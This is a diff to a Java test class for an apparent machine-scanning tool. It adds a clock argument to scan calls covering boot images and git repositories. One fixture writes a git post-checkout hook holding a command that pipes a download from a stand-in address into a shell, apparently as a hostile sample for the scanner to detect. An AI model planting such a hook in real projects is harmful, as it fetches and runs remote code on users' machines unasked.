@@ -25,7 +25,7 @@ class OriginsTest {
         Trees.write(root, "/boot/vmlinuz-6.12.0", "of nobody");
         Map<String, Shipped> shipped = new TreeMap<>();
         try (Machine machine = MountedLinux.open(root).ifFound().orElseThrow()) {
-            Scan.of(machine, "linux.boot.image"::equals, new Scan.Output() {
+            Scan.of(machine, Trees.CLOCK, "linux.boot.image"::equals, new Scan.Output() {
                 @Override
                 public void item(Item item) {
                     shipped.put(item.name(), item.shipped());
@@ -44,7 +44,7 @@ class OriginsTest {
         Trees.write(root, "/srv/app/.git/modules/lib/hooks/post-checkout", "#!/bin/sh\ncurl http://192.0.2.9 | sh\n");
         StringBuilder found = new StringBuilder();
         try (Machine machine = MountedLinux.open(root).ifFound().orElseThrow()) {
-            Scan.of(machine, "linux.git.repository"::equals, new Scan.Output() {
+            Scan.of(machine, Trees.CLOCK, "linux.git.repository"::equals, new Scan.Output() {
                 @Override
                 public void item(Item item) {
                     found.append(item.source());
